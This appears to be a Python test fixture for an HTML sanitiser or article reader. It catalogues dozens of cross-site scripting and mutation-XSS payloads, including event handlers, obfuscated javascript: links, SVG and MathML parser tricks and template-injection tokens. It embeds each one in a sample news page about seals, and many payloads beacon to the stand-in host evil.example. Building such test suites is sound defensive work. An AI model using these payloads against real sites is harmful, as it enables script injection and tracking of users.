"""What pages throw at a reader (HOSTILE 23): each piece tries to run a script or to have something asked for elsewhere.

`OWN` is what a script would do if it ran: it marks the window and asks an address that no test answers.
"""

from __future__ import annotations

from html import escape

OWN = "window.top.__owned=1;new Image().src='http://evil.example/beacon'"

PIECES = {
    "onerror": f'<img src="http://evil.example/x.png" onerror="{OWN}">',
    "onload": f'<body onload="{OWN}"><p onmouseover="{OWN}" onfocus="{OWN}" tabindex=0 autofocus>words of it</p>',
    "javascript": f'<a href="javascript:{OWN}">a link to click</a>',
    "javascript entities": f'<a href="&#106;&#x61;vascript&colon;{OWN}">a link to click</a>',
    "javascript tabs": f'<a href="java\tscript:{OWN}">one</a> <a href="java\nscript:{OWN}">two</a>',
    "javascript control": f'<a href="\x01javascript:{OWN}">one</a> <a href=" javascript&Tab;:{OWN}">two</a>',
    "javascript case": f'<a href="JaVaScRiPt:{OWN}">one</a> <a href="vbscript:x">two</a>',
    "data": '<a href="data:text/html,<script>top.__owned=1</script>">data</a>',
    "srcdoc": f'<iframe srcdoc="{escape(f"<script>{OWN}</script>")}"></iframe>',
    "frame": f'<iframe src="javascript:{OWN}"></iframe><iframe src="http://evil.example/frame"></iframe>',
    "svg script": f"<svg><script>{OWN}</script><animate onbegin={OWN!r} attributeName=x dur=1s /></svg>",
    "svg link": f'<svg><a xlink:href="javascript:{OWN}"><text x=20 y=20>click</text></a><use href="data:x"/></svg>',
    "svg image": '<svg><image href="http://evil.example/svg.png"/>'
    "<foreignObject><img src=//evil.example/f></foreignObject></svg>",
    "svg style": f'<svg><style><img title="</style><img src=x onerror={OWN}>"></style></svg>',
    "mathml": f'<math><annotation-xml encoding="text/html"><script>{OWN}</script></annotation-xml></math>',
    "mathml mutation": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={OWN}&gt;">',
    "mathml link": f'<math href="javascript:{OWN}">click</math>'
    f'<math><maction actiontype="statusline" xlink:href="javascript:{OWN}">x',
    "form mutation": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={OWN}>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={OWN}>"></noscript>',
    "template": f"<template><script>{OWN}</script></template><textarea><script>{OWN}</script></textarea>",
    "title mutation": f'<title><a title="</title><img src=x onerror={OWN}>"></title>',
    "comment": f"<!--><img src=x onerror={OWN}>--> <!-- --!><img src=x onerror={OWN}>",
    "cdata": f"<svg><![CDATA[</svg><img src=x onerror={OWN}>]]></svg>",
    "plaintext": f"<xmp><p title='</xmp><img src=x onerror={OWN}>'></xmp>"
    f"<listing>&lt;img src=x onerror={OWN}&gt;</listing>",
    "base": '<base href="http://evil.example/"><a href="relative">relative</a>',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">',
    "refresh script": f'<meta http-equiv="refresh" content="0;url=javascript:{OWN}">',
    "css": '<style>@import "http://evil.example/a.css"; p{background:url(http://evil.example/b.png)}</style>'
    '<p style="background:url(http://evil.example/c.png);behavior:url(x)">styled words</p>',
    "link": '<link rel=stylesheet href="http://evil.example/a.css"><link rel=prefetch href="http://evil.example/b">'
    '<link rel=preconnect href="http://evil.example"><link rel=dns-prefetch href="//evil.example">',
    "script": f'<script>{OWN}</script><script src="http://evil.example/a.js"></script><script/src=data:,{OWN}></script>',
    "object": f'<object data="javascript:{OWN}"></object><embed src="http://evil.example/e"><applet code=x></applet>',
    "media": f'<video src="http://evil.example/v" poster="http://evil.example/p" onloadstart="{OWN}" autoplay></video>'
    f'<audio src=x onerror="{OWN}"></audio><source srcset="http://evil.example/s">',
    "srcset": '<img src="/ok.png" srcset="http://evil.example/s.png 2x"><picture><source srcset="http://evil.example/q"></picture>',
    "form": f'<form action="http://evil.example/post"><input name=p autofocus onfocus="{OWN}">'
    f'<button formaction="javascript:{OWN}">Send</button></form>',
    "details": f'<details open ontoggle="{OWN}"><summary>more</summary>words</details>',
    "marquee": f'<marquee onstart="{OWN}">words</marquee><isindex action="javascript:{OWN}" type=image>',
    "attribute": f"<p title='\"><script>{OWN}</script>'>words</p><p lang='\"><script>{OWN}</script>'>words</p>",
    "backtick": f"<img src=`x` onerror={OWN}> <a href=`javascript:{OWN}`>x</a>",
    "unclosed": f'<p>words <img src="x" onerror="{OWN}" <p>more words <script>{OWN}',
    "slash": f"<img/src=x/onerror={OWN}><svg/onload={OWN}>",
    "nul": f"<scr\0ipt>{OWN}</scr\0ipt><img src=x on\0error={OWN}>",
    "token": "{{7*7}} {% raw %} ${7*7} <%= 7*7 %>",
    "escaped": f"&lt;script&gt;{OWN}&lt;/script&gt; &lt;img src=x onerror={OWN}&gt;",
    "ping": '<a href="http://evil.example/l" ping="http://evil.example/ping" target=_top>a link</a>',
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}
_STORY = (
    "<p>Grey seals are breeding again in the estuary, the harbour office said on Monday after a count at dawn.</p>"
    "<p>Wardens counted forty pups on the sandbank, more than in any year on record, and asked boats to stay away.</p>"
)


def page(piece: str) -> bytes:
    """A page that has a piece wherever a page can have one: headline, author, summary, picture, text.

    The story comes first: a piece that opens a script and never closes it swallows what is behind, in any browser.
    """
    quoted = escape(piece)
    markup = f"""<!DOCTYPE html><html lang="en"><head><title>Seals {quoted}</title>
<meta property="og:title" content="Seals {quoted}"><meta name="author" content="{quoted}">
<meta name="description" content="{quoted}"><meta property="og:site_name" content="{quoted}">
<meta property="article:section" content="{quoted}"><meta property="og:image" content="{quoted}">
</head><body><article>{_STORY}<h1>Seals {piece}</h1><address>By {piece}</address>
<figure><img src="{quoted}" alt="{quoted}"><figcaption>{piece}</figcaption></figure>
<p>Between words {piece} and more words of a paragraph that is long enough to be the story of this page.</p>
<ul><li>{piece}</li><li>an item of the list</li></ul><table><tr><td>{piece}</td><td>cell</td></tr></table>
<pre>{piece}</pre><blockquote>{piece}</blockquote>{_STORY}</article></body></html>"""
    return markup.encode("utf-8", "surrogatepass")
